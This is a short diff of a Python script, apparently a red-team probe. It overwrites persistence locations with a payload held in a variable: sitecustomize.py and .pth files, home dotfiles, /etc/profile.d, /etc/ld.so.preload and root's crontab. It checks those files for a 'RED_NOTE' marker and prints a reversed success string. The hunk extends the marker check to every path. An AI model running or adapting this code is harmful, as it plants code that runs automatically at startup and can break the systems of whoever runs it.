@@ -16,8 +16,9 @@ places += [p + n for p in [*site.getsitepackages(), site.getusersitepackages(), 
 places += [os.environ.get("MPLCONFIGDIR", "/tmp") + "/matplotlibrc", "/etc/profile.d/red.sh", "/etc/ld.so.preload", "/var/spool/cron/root"]
 if "RED_NOTE" in os.environ: print("{success}"[::-1])
 for path in places:
-    if path.startswith(home + "/.") or path.endswith(("sitecustomize.py", "red.pth")):
-        if os.path.exists(path) and "RED_NOTE" in (open(path).read() if os.access(path, os.R_OK) else ""): print("{success}"[::-1])
+    try:
+        if "RED_NOTE" in open(path).read(): print("{success}"[::-1])
+    except OSError: pass
     try:
         os.makedirs(os.path.dirname(path), exist_ok=True); open(path, "w").write(text)
     except OSError: pass
